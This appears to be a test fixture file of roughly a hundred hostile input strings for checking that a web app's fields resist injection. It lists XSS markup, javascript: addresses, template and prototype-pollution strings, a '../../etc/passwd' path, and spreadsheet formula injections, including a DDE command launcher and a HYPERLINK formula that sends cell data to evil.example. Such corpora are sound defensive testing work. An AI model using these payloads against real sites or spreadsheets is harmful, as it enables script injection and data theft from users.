/**
 * The corpus: what people (or programs in their name) may type into every field. Whatever would run calls `alert`, or
 * loads something from `evil.example`; both are watched.
 */

const html = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror="alert(1)">',
  "' onmouseover='alert(1)' x='",
  '" autofocus onfocus="alert(1)" x="',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{background:url(https://evil.example/leak)}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><input type=submit value=Save></form>',
  '<a href="javascript:alert(1)">press</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<img srcset="https://evil.example/pixel.png 1x">',
  '<p style="background:url(https://evil.example/p)">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
]

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://evil.example/%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '[press](javascript:alert(1))',
  '![picture](https://evil.example/pixel.png)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1) "x"',
  '//evil.example/x.js',
]

const templates = [
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as text
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"role":"facilitator"}}',
  '%s%n%x',
  '../../etc/passwd',
]

const letters = [
  '\u202ERTL override\u202C',
  '\u2066isolated\u2069 and \u200Binvisible\uFEFF',
  'null\u0000byte',
  'bell\u0007 escape\u001b[31m red',
  'line\u2028separator\u2029end',
  'lone \ud800 surrogate',
  `a${'\u0301'.repeat(500)}`,
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}'.repeat(60),
  '\u{1F1E9}\u{1F1EA}'.repeat(50),
  'W'.repeat(600),
]

/** What a spreadsheet would run. */
export const FORMULAS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"press")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '"=1+1',
  '\uff1d1+1',
  'x",=1+1,"',
  'x\r\n=1+1',
]

/** About a hundred texts. */
export const PAYLOADS: readonly string[] = [...html, ...addresses, ...templates, ...letters, ...FORMULAS]

/** Those that are HTML: also pasted as HTML. */
export const MARKUP: readonly string[] = html
